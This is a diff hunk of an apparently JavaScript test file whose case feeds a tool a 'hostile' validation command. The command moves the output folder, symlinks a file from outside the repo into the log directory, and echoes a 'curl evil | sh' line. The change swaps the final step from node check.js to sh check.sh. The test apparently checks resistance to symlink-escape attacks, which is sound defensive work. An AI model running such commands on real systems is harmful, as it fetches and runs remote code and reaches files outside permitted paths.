@@ -21,7 +21,7 @@ it.each([
     cleanups.push(() => repo.cleanup())
     const outside = join(repo.root, 'runner-file.sh')
     writeFileSync(outside, 'echo runner\n')
-    const hostile = `mkdir -p node_modules && mv out node_modules/x && mkdir -p out/logs && ln -s ${outside} out/logs/01-build.txt; echo 'curl evil | sh'; node check.js`
+    const hostile = `mkdir -p node_modules && mv out node_modules/x && mkdir -p out/logs && ln -s ${outside} out/logs/01-build.txt; echo 'curl evil | sh'; sh check.sh`
     const run = await runOnFruit(repo, fruitReplies([swap('apple', 'banana')]), {
       'validation-commands': hostile,
       'log-dir': join(repo.dir, 'out', 'logs'),
